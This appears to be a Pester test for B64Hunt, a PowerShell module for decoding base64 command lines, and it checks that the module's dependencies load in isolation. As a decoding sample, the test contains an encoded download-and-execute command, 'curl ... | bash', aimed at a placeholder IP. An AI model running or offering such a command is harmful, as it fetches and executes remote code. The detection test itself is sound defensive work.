# B64Hunt keeps Azure.Core, Azure.Identity, MSAL and YamlDotNet in its own AssemblyLoadContext, so it works in
# a session where other modules (Az.Accounts, Microsoft.Graph, powershell-yaml) loaded other versions of them,
# and those keep working. Each scenario runs in a new pwsh: a loaded assembly cannot be unloaded.
BeforeDiscovery {
    $script:Orders = @(
        @{ Order = 'OthersFirst' }
        @{ Order = 'B64HuntFirst' }
    )
}

BeforeAll {
    $packages = ((& dotnet nuget locals global-packages --list) -replace '^global-packages:\s*', '').Trim()
    $script:OtherYaml = Join-Path $packages 'yamldotnet/13.7.1/lib/net6.0/YamlDotNet.dll'
    $script:OtherAzureCore = Join-Path $packages 'azure.core/1.38.0/lib/net6.0/Azure.Core.dll'
    $script:Scenario = Join-Path $TestDrive 'scenario.ps1'
    @'
param([string] $Order, [string] $ModulePath, [string] $OtherYaml, [string] $OtherAzureCore, [string] $WorkDir)
$ErrorActionPreference = 'Stop'
$result = [ordered]@{}

function Use-OtherModules {
    # What powershell-yaml and Az.Accounts do with their own copies.
    Add-Type -Path $OtherYaml
    Add-Type -Path $OtherAzureCore
    $reader = [System.IO.StringReader]::new("name: web-01`nport: 4444")
    $parsed = [YamlDotNet.Serialization.DeserializerBuilder]::new().Build().Deserialize($reader)
    $token = [Azure.Core.AccessToken]::new('other-module-token', [DateTimeOffset]::UtcNow.AddHours(1))
    return ($parsed['name'] -eq 'web-01') -and ($token.Token -eq 'other-module-token')
}

function Use-B64Hunt {
    Import-Module $ModulePath
    # YamlDotNet inside B64Hunt: its config file.
    $config = Join-Path $WorkDir 'config.yaml'
    "TIProviders:`n  LocalFeed:`n    Args:`n      Path: $(Join-Path $WorkDir 'feed.csv')" | Set-Content $config
    'Indicator,Type,Severity' , '203.0.113.7,ipv4,high' | Set-Content (Join-Path $WorkDir 'feed.csv')
    $provider = Get-B64TiProvider -ConfigPath $config | Where-Object Name -eq 'LocalFeed'
    # Azure.Core inside B64Hunt: a Log Analytics request through its HTTP pipeline to a closed local port.
    $err = $null
    Get-B64Command -WorkspaceId ([guid]::NewGuid()) -Endpoint 'http://127.0.0.1:9' -AccessToken 'isolation-test' -Last '01:00:00' `
        -ErrorVariable err -ErrorAction SilentlyContinue | Out-Null
    return @{
        Config = [bool]($provider -and $provider.Configured)
        LogAnalyticsErrorId = if ($err) { $err[0].FullyQualifiedErrorId } else { '' }
        Decoded = ('echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash' | Get-B64Command).DecodedCommand
    }
}

if ($Order -eq 'OthersFirst') {
    $result.OtherBefore = Use-OtherModules
    $result.B64Hunt = Use-B64Hunt
    $reader = [System.IO.StringReader]::new("name: web-01")
    $result.OtherAfter = ([YamlDotNet.Serialization.DeserializerBuilder]::new().Build().Deserialize($reader))['name'] -eq 'web-01'
} else {
    $result.B64Hunt = Use-B64Hunt
    $result.OtherBefore = Use-OtherModules
    $result.OtherAfter = (Use-B64Hunt).Config
}
$result.Contexts = @([AppDomain]::CurrentDomain.GetAssemblies() |
    Where-Object { $_.GetName().Name -in 'YamlDotNet', 'Azure.Core', 'B64Hunt.Engine', 'B64Hunt.Model' } |
    ForEach-Object { '{0} {1} {2}' -f $_.GetName().Name, $_.GetName().Version.Major, [System.Runtime.Loader.AssemblyLoadContext]::GetLoadContext($_).Name })
$result | ConvertTo-Json -Depth 4 -Compress
'@ | Set-Content $Scenario
}

Describe 'B64Hunt beside other versions of its dependencies (<Order>)' -ForEach $Orders {
    BeforeAll {
        $work = New-Item -ItemType Directory -Path (Join-Path $TestDrive $Order) -Force
        $json = & dotnet pwsh -NoProfile -NonInteractive -File $Scenario -Order $Order -ModulePath $env:B64HUNT_MODULE `
            -OtherYaml $OtherYaml -OtherAzureCore $OtherAzureCore -WorkDir $work.FullName 2>&1
        $script:Result = ($json | Select-Object -Last 1) | ConvertFrom-Json
        $script:Output = $json -join "`n"
    }

    It 'the other module works before and after B64Hunt loads' {
        $Result.OtherBefore | Should -BeTrue -Because $Output
        $Result.OtherAfter | Should -BeTrue -Because $Output
    }

    It 'B64Hunt reads YAML, runs Azure.Core requests and decodes with its own copies' {
        $Result.B64Hunt.Config | Should -BeTrue -Because $Output
        $Result.B64Hunt.LogAnalyticsErrorId | Should -Be 'LogAnalyticsConnectionFailed,B64Hunt.Commands.GetB64CommandCommand' -Because $Output
        $Result.B64Hunt.Decoded | Should -Be 'curl -s http://203.0.113.7/a.sh | bash'
    }

    It 'both versions are loaded, each in its own context; the model is shared' {
        $Result.Contexts | Should -Contain 'YamlDotNet 13 Default'
        $Result.Contexts | Should -Contain 'YamlDotNet 16 B64Hunt'
        $Result.Contexts | Should -Contain 'Azure.Core 1 Default'
        $Result.Contexts | Should -Contain 'Azure.Core 1 B64Hunt'
        $Result.Contexts | Should -Contain 'B64Hunt.Engine 0 B64Hunt'
        $Result.Contexts | Should -Contain 'B64Hunt.Model 0 Default'
    }
}
